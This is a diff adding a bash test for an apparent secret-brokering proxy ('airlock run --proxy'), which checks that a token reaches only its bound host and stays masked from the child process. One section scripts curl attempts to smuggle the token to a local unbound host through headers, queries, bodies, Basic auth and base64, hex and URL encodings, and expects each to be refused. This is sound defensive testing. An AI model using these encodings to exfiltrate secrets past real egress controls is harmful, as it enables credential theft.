@@ -1,0 +1,174 @@
+#!/bin/bash
+# airlock run --proxy: the child holds a placeholder; the value goes only to
+# the secret's host, in headers, through the broker's proxy.  Two local
+# HTTPS servers with certificates from a test CA: 127.0.0.1 (bound) and
+# 127.0.0.2 (not bound); clients curl and Python.
+. "$(dirname "$0")/lib.sh"
+
+command -v openssl >/dev/null && command -v curl >/dev/null &&
+    command -v python3 >/dev/null || { echo "skip: openssl/curl/python3"; exit 0; }
+
+D="$T_ROOT/pki"
+mkdir -p "$D"
+openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes \
+    -keyout "$D/ca.key" -out "$D/ca.pem" -days 2 -subj /CN=airlock-test-ca \
+    2>/dev/null || { fail "test CA"; done_testing; }
+openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes \
+    -keyout "$D/srv.key" -out "$D/srv.csr" -subj /CN=localhost 2>/dev/null
+printf 'subjectAltName=IP:127.0.0.1,IP:127.0.0.2\nbasicConstraints=CA:FALSE\nkeyUsage=digitalSignature\nextendedKeyUsage=serverAuth\n' >"$D/ext"
+openssl x509 -req -in "$D/srv.csr" -CA "$D/ca.pem" -CAkey "$D/ca.key" \
+    -CAcreateserial -out "$D/srv.pem" -days 2 -extfile "$D/ext" 2>/dev/null ||
+    { fail "server certificate"; done_testing; }
+
+ECHO="$(dirname "$0")/helpers/https_echo.py"
+SRV_PIDS=""
+start_server() {	# start_server IP NAME
+	python3 "$ECHO" "$D/srv.pem" "$D/srv.key" "$1" "$T_ROOT/$2.port" \
+	    "$T_ROOT/$2.log" &
+	SRV_PIDS="$SRV_PIDS $!"
+	touch "$T_ROOT/$2.log"
+}
+stop_servers() {
+	for p in $SRV_PIDS; do kill "$p" 2>/dev/null; done
+	t_cleanup
+}
+trap stop_servers EXIT
+start_server 127.0.0.1 bound
+start_server 127.0.0.2 unbound
+for _ in $(seq 100); do
+	[ -s "$T_ROOT/bound.port" ] && [ -s "$T_ROOT/unbound.port" ] && break
+	sleep 0.05
+done
+PB=$(cat "$T_ROOT/bound.port")
+PU=$(cat "$T_ROOT/unbound.port")
+B="https://127.0.0.1:$PB"
+U="https://127.0.0.2:$PU"
+
+# The broker (started by the first command) trusts the test CA upstream.
+export AIRLOCK_UPSTREAM_CA_FILE="$D/ca.pem"
+init_vault
+V=$(canary)
+V2=$(canary)
+add_secret tok "$V" --host 127.0.0.1
+add_secret formtok "$V2" --host '127.0.0.*' --inject body
+add_secret nohost "$(canary)"
+S="$T_ROOT/scratch"
+mkdir -p "$S"
+
+# --- a secret bound to no host cannot go through the proxy ------------------
+run "$AL" run --proxy -e T=nohost -- true
+expect_rc 125 "run --proxy with an unbound secret"
+expect_err "secret 'nohost' is bound to no host"
+
+# --- the bound host gets the value; the child and its output never ----------
+run "$AL" run --proxy -e TOK=tok -- sh -c '
+	env >"'"$S"'/env"; cat /proc/self/environ >"'"$S"'/proc-env"
+	printf %s "$HTTPS_PROXY" >"'"$S"'/proxy-url"
+	curl -sS -H "Authorization: Bearer $TOK" "'"$B"'/api?x=1"; echo
+	curl -sS -u "me:$TOK" "'"$B"'/basic"; echo
+	curl -sS "'"$B"'/gzip" -H "X-Echo: $TOK"; echo'
+expect_rc 0 "proxied curl"
+if grep -qF "\"Authorization\": \"Bearer $V\"" "$T_ROOT/bound.log"; then pass
+else fail "bound server did not get the value in Authorization"; fi
+BASIC=$(printf 'me:%s' "$V" | base64 -w0)
+if grep -qF "Basic $BASIC" "$T_ROOT/bound.log"; then pass
+else fail "bound server did not get the value inside Basic auth"; fi
+if grep -qF '"Accept-Encoding": "identity"' "$T_ROOT/bound.log"; then pass
+else fail "upstream was not asked for an identity encoding"; fi
+expect_out '"Authorization": "Bearer [REDACTED:tok]"' "echoed value masked"
+expect_out '"X-Echo": "[REDACTED:tok]"' "gzip-compressed echo masked"
+for f in env proc-env; do
+	if grep -qaF "$V" "$S/$f"; then fail "value in the child's $f"; else pass; fi
+	# Shaped like the value: letters for letters, digits for digits.
+	if grep -qaE 'TOK=[a-z]{4}-[0-9a-z]{36}' "$S/$f"; then pass
+	else fail "TOK in the child's $f is not a placeholder shaped like the value"; fi
+done
+if grep -qaE '^(NO_PROXY|no_proxy)=' "$S/env"; then
+	fail "NO_PROXY left in the child"; else pass; fi
+for v in SSL_CERT_FILE CURL_CA_BUNDLE REQUESTS_CA_BUNDLE NODE_EXTRA_CA_CERTS \
+    GIT_SSL_CAINFO HTTPS_PROXY https_proxy HTTP_PROXY ALL_PROXY; do
+	grep -q "^$v=" "$S/env" && pass || fail "$v not set in the child"
+done
+# The CA bundle is gone with the run.
+if ls "$AIRLOCK_HOME"/proxy-ca-*.pem >/dev/null 2>&1; then
+	fail "CA bundle left after the run"; else pass; fi
+
+# --- a request after the run ends: 407 --------------------------------------
+code=$(curl -s -o /dev/null -w '%{http_connect}' --proxy "$(cat "$S/proxy-url")" \
+    --cacert "$D/ca.pem" "$B/late")
+expect_eq "$code" "407" "late request with the run's credential"
+
+# --- exfiltration to the unbound host, every form: refused -------------------
+: >"$T_ROOT/unbound.log"
+run "$AL" run --proxy -e TOK=tok -- sh -c '
+	u="'"$U"'"
+	w() { curl -s -o /dev/null -w "%{http_code}\n" "$@"; }
+	w -H "X-Leak: $TOK" "$u/h"
+	w "$u/q?t=$TOK"
+	w -d "t=$TOK" "$u/b"
+	w -u "me:$TOK" "$u/basic"
+	w -H "X-Leak: $(printf %s "$TOK" | base64 -w0)" "$u/b64"
+	w -H "X-Leak: $(printf %s "$TOK" | od -An -tx1 | tr -d " \n")" "$u/hex"
+	w "$u/url?t=$(printf %s "$TOK" | od -An -tx1 | tr -d " \n" |
+	    sed "s/../%&/g" | tr a-f A-F)"
+	w "$u/clean"
+	# the wrong credential, and the Host of another server
+	c() { curl -s -o /dev/null -w "%{http_connect}\n" "$@"; }
+	c --proxy "http://airlock:0000@127.0.0.1:${HTTPS_PROXY##*:}" "$u/x"
+	w -H "Host: 127.0.0.2:'"$PU"'" "'"$B"'/host"'
+expect_rc 0 "exfiltration attempts"
+expect_eq "$(head -7 "$OUT" | sort -u | tr '\n' ' ')" "403 " \
+    "header, query, body, basic, base64, hex, URL-encoded to the unbound host"
+expect_eq "$(sed -n 8p "$OUT")" "200" "a request without placeholder passes"
+expect_eq "$(sed -n 9p "$OUT")" "407" "wrong proxy credential"
+expect_eq "$(sed -n 10p "$OUT")" "421" "Host header not the CONNECT target"
+expect_eq "$(grep -c . "$T_ROOT/unbound.log")" "1" "only the clean request reached the unbound host"
+
+# --- body and query to the bound host: only with --inject --------------------
+: >"$T_ROOT/bound.log"
+run "$AL" run --proxy -e TOK=tok -e F=formtok -- sh -c '
+	w() { curl -s -o /dev/null -w "%{http_code}\n" "$@"; }
+	w -d "t=$TOK" "'"$B"'/post"
+	w "'"$B"'/q?t=$TOK"
+	w -d "client_secret=$F" "'"$B"'/token"
+	curl -sS -d "t=$TOK" "'"$B"'/post"
+	curl -sS -d "client_secret=$F" "'"$B"'/token"; echo'
+expect_eq "$(head -3 "$OUT" | tr '\n' ' ')" "403 403 200 " \
+    "body/query placeholder: refused unless the secret opted in"
+expect_out "secret 'tok' in the body" "403 names the secret"
+if grep -qF "client_secret=$V2" "$T_ROOT/bound.log"; then pass
+else fail "opted-in body did not get the value"; fi
+if grep -qF "$V" "$T_ROOT/bound.log"; then fail "refused body reached the server"
+else pass; fi
+expect_out "client_secret=[REDACTED:formtok]" "echoed body masked"
+
+# --- Python urllib and requests honour the variables ------------------------
+: >"$T_ROOT/bound.log"
+run "$AL" run --proxy -e TOK=tok -- python3 -c '
+import os, urllib.request
+r = urllib.request.Request("'"$B"'/urllib", headers={"X-Api-Key": os.environ["TOK"]})
+print(urllib.request.urlopen(r).status)
+try:
+    import requests
+    print(requests.get("'"$B"'/requests", headers={"X-Api-Key": os.environ["TOK"]}).status_code)
+except ImportError:
+    print(200)
+'
+expect_rc 0 "python clients"
+expect_eq "$(tr '\n' ' ' <"$OUT")" "200 200 " "urllib and requests through the proxy"
+expect_eq "$(grep -cF "\"X-Api-Key\": \"$V\"" "$T_ROOT/bound.log")" "2" \
+    "python requests carried the value upstream"
+
+# --- the audit log: one line per request, blocked ones named ---------------
+run "$AL" audit --json
+expect_out '"event":"egress_blocked"' "egress_blocked audited"
+expect_out '"event":"proxy_request"' "proxied requests audited"
+expect_out '"host":"127.0.0.2"' "destination in the audit line"
+expect_out '"path":"/q?t=..."' "query values left out of the audit line"
+run "$AL" audit --verify
+expect_rc 0 "audit chain intact"
+
+"$AL" serve --stop >/dev/null 2>&1 || true
+check_no_leak "$V" "$S/env" "$S/proc-env"
+check_no_leak "$V2"
+done_testing
